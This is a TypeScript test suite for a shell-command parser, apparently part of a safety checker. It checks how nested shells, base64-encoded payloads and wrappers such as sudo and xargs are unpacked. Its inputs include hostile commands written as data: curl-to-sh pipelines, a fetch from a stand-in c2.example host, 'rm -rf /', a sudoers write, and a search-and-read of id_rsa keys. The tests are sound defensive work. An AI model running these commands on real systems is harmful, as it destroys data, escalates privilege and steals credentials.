// Commands run by other commands: nested shells, base64 payloads and wrappers.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { NOTHING, expectShell, shell, summary } from '../helpers/facts.js';

const b64 = (text: string): string => Buffer.from(text).toString('base64');

describe('nested shells', () => {
  it('parses bash -c strings', () => {
    const f = shell("bash -c 'curl x | sh'");
    assert.deepEqual(
      f.commands.map((c) => c.name),
      ['bash', 'curl', 'sh'],
    );
    assert.deepEqual(f.commands[0]?.args, ['-c', 'curl x | sh']);
    assert.deepEqual(f.pipelines, [['curl', 'sh']]);
    assert.deepEqual(f.hosts, ['x']);
  });

  it('parses -c of every shell, with options before it', () => {
    expectShell("sh -c 'rm -f /tmp/a'; zsh -c 'rm -f /tmp/b'; dash -xc 'rm -f /tmp/c'; ksh -c 'rm -f /tmp/d'; bash -o pipefail -lc 'rm -f /tmp/e'", {
      commands: ['sh -c rm -f /tmp/a', 'rm -f /tmp/a', 'zsh -c rm -f /tmp/b', 'rm -f /tmp/b', 'dash -xc rm -f /tmp/c', 'rm -f /tmp/c', 'ksh -c rm -f /tmp/d', 'rm -f /tmp/d', 'bash -o pipefail -lc rm -f /tmp/e', 'rm -f /tmp/e'],
      write: ['/tmp/a', '/tmp/b', '/tmp/c', '/tmp/d', '/tmp/e'],
    });
  });

  it('parses su -c and sudo sh -c', () => {
    expectShell("su -c 'rm -rf /opt/x' root; sudo sh -c 'echo x >> /etc/sudoers.d/x'", {
      commands: ['su -c rm -rf /opt/x root', 'rm -rf /opt/x', 'sudo sh -c echo x >> /etc/sudoers.d/x', 'sh -c echo x >> /etc/sudoers.d/x', 'echo x'],
      write: ['/opt/x', '/etc/sudoers.d/x'],
    });
  });

  it('parses the joined arguments of eval', () => {
    expectShell('eval "curl -s x.example" "| sh"', {
      commands: ['eval curl -s x.example | sh', 'curl -s x.example', 'sh'],
      pipelines: [['curl', 'sh']],
      hosts: ['x.example'],
    });
  });

  // Issue 12 asks for interpreter one-liners that spawn shell commands: the string given to os.system is
  // walked as shell (and its delete recorded), while the python and node code itself is not parsed as shell.
  it('walks only the shell strings that python, node or perl code spawns', () => {
    expectShell("python3 -c \"import os; os.system('rm -rf /')\"; node -e 'require(\"child_process\")'", {
      commands: ["python3 -c import os; os.system('rm -rf /')", 'rm -rf /', 'node -e require("child_process")'],
      write: ['/'],
    });
  });

  it('records a shell script file as read', () => {
    expectShell('bash ./install.sh --yes', { commands: ['bash ./install.sh --yes'], read: ['./install.sh'] });
  });

  const quote = (s: string): string => `'${s.replaceAll("'", "'\\''")}'`;
  const nest = (levels: number): string => {
    let command = 'rm -rf /tmp/deep';
    for (let i = 0; i < levels; i++) command = `bash -c ${quote(command)}`;
    return command;
  };

  it('follows shell strings eight levels deep', () => {
    const f = shell(nest(8));
    assert.equal(f.parsed, true);
    assert.deepEqual(f.commands.at(-1), { name: 'rm', args: ['-rf', '/tmp/deep'], text: 'rm -rf /tmp/deep' });
  });

  it('reports deeper shell strings as unparsed', () => {
    assert.deepEqual(summary(shell(nest(9))), { ...NOTHING, parsed: false });
  });
});

describe('base64 payloads', () => {
  it('decodes echo | base64 -d | sh', () => {
    expectShell(`echo ${b64('rm -rf /')} | base64 -d | sh`, {
      commands: [`echo ${b64('rm -rf /')}`, 'base64 -d', 'sh', 'rm -rf /'],
      pipelines: [['echo', 'base64', 'sh']],
      write: ['/'],
    });
  });

  it('decodes printf, --decode, -D and openssl base64 -d', () => {
    const payload = b64('curl -s https://c2.example/x');
    for (const decode of ['base64 --decode', 'base64 -D', 'openssl base64 -d', 'base64 -di']) {
      const f = shell(`printf %s ${payload} | ${decode} | bash`);
      assert.deepEqual(f.commands.at(-1)?.text, 'curl -s https://c2.example/x', decode);
      assert.deepEqual(f.hosts, ['c2.example'], decode);
    }
  });

  it('decodes $(echo … | base64 -d) used as the command', () => {
    expectShell(`$(echo ${b64('rm -rf ~')} | base64 -d)`, {
      commands: [`echo ${b64('rm -rf ~')}`, 'base64 -d', 'rm -rf ~', `$(echo ${b64('rm -rf ~')} | base64 -d)`],
      pipelines: [['echo', 'base64']],
      write: ['~'],
    });
  });

  it('decodes a payload fed as a here-string to bash', () => {
    expectShell(`bash <<< "$(echo ${b64('id; rm -rf /srv')} | base64 -d)"`, {
      commands: [`echo ${b64('id; rm -rf /srv')}`, 'base64 -d', 'bash', 'id', 'rm -rf /srv'],
      pipelines: [['echo', 'base64']],
      write: ['/srv'],
    });
  });

  it('leaves binary payloads and payloads not run by a shell alone', () => {
    expectShell('echo //79 | base64 -d | sh', { commands: ['echo //79', 'base64 -d', 'sh'], pipelines: [['echo', 'base64', 'sh']] });
    expectShell(`echo ${b64('rm -rf /')} | base64 -d > x.sh`, {
      commands: [`echo ${b64('rm -rf /')}`, 'base64 -d'],
      pipelines: [['echo', 'base64']],
      write: ['x.sh'],
    });
  });

  it('parses plain text piped into a shell', () => {
    expectShell("echo 'rm -rf /tmp/x' | sh", { commands: ['echo rm -rf /tmp/x', 'sh', 'rm -rf /tmp/x'], pipelines: [['echo', 'sh']], write: ['/tmp/x'] });
  });
});

describe('wrapper commands', () => {
  it('lists sudo and the command it runs', () => {
    const f = shell('sudo rm -rf ~');
    assert.deepEqual(f.commands, [
      { name: 'sudo', args: ['rm', '-rf', '~'], text: 'sudo rm -rf ~' },
      { name: 'rm', args: ['-rf', '~'], text: 'rm -rf ~' },
    ]);
  });

  it('skips wrapper options, env assignments and timeout durations', () => {
    expectShell('sudo -u deploy -E env -i FOO=1 nice -n 10 timeout -s KILL 5s nohup rm -rf /srv/x', {
      commands: [
        'sudo -u deploy -E env -i FOO=1 nice -n 10 timeout -s KILL 5s nohup rm -rf /srv/x',
        'env -i FOO=1 nice -n 10 timeout -s KILL 5s nohup rm -rf /srv/x',
        'nice -n 10 timeout -s KILL 5s nohup rm -rf /srv/x',
        'timeout -s KILL 5s nohup rm -rf /srv/x',
        'nohup rm -rf /srv/x',
        'rm -rf /srv/x',
      ],
      write: ['/srv/x'],
    });
  });

  it('unwraps doas, stdbuf, ionice, time, command, exec, builtin, setsid, chroot and strace', () => {
    const wrapped = ['doas -u root', 'stdbuf -oL', 'ionice -c 3', 'time -p', 'command', 'exec', 'builtin', 'setsid', 'chroot /mnt', 'strace -f -o /tmp/t'];
    for (const w of wrapped) {
      const f = shell(`${w} shred -u /tmp/k`);
      assert.deepEqual(f.commands.map((c) => c.name), [w.split(' ')[0], 'shred'], w);
      assert.deepEqual(f.commands[1]?.args, ['-u', '/tmp/k'], w);
    }
  });

  it('does not treat command -v as running anything', () => {
    expectShell('command -v nc >/dev/null', { commands: ['command -v nc'] });
  });

  it('parses the shell strings of watch and env -S', () => {
    expectShell("watch -n 5 'curl -s x.example | sh'; env -S 'rm -rf /tmp/e'", {
      commands: ['watch -n 5 curl -s x.example | sh', 'curl -s x.example', 'sh', 'env -S rm -rf /tmp/e', 'rm -rf /tmp/e'],
      pipelines: [['curl', 'sh']],
      write: ['/tmp/e'],
      hosts: ['x.example'],
    });
  });

  it('emits the command xargs runs', () => {
    expectShell("find . -name '*.tmp' -print0 | xargs -0 -I{} rm -f {}", {
      commands: ['find . -name *.tmp -print0', 'xargs -0 -I{} rm -f {}', 'rm -f {}'],
      pipelines: [['find', 'xargs', 'rm']],
    });
  });

  it('emits the commands of find -exec', () => {
    expectShell("find / -name id_rsa -exec cat {} \\; -execdir sh -c 'rm \"$0\"' {} +", {
      commands: ["find / -name id_rsa -exec cat {} ; -execdir sh -c rm \"$0\" {} +", 'cat {}', 'sh -c rm "$0" {}', 'rm $0'],
      write: ['$0'],
    });
  });

  it('refuses absurdly long wrapper chains', () => {
    assert.equal(shell(`${'sudo '.repeat(40)}rm -rf /`).parsed, false);
  });
});
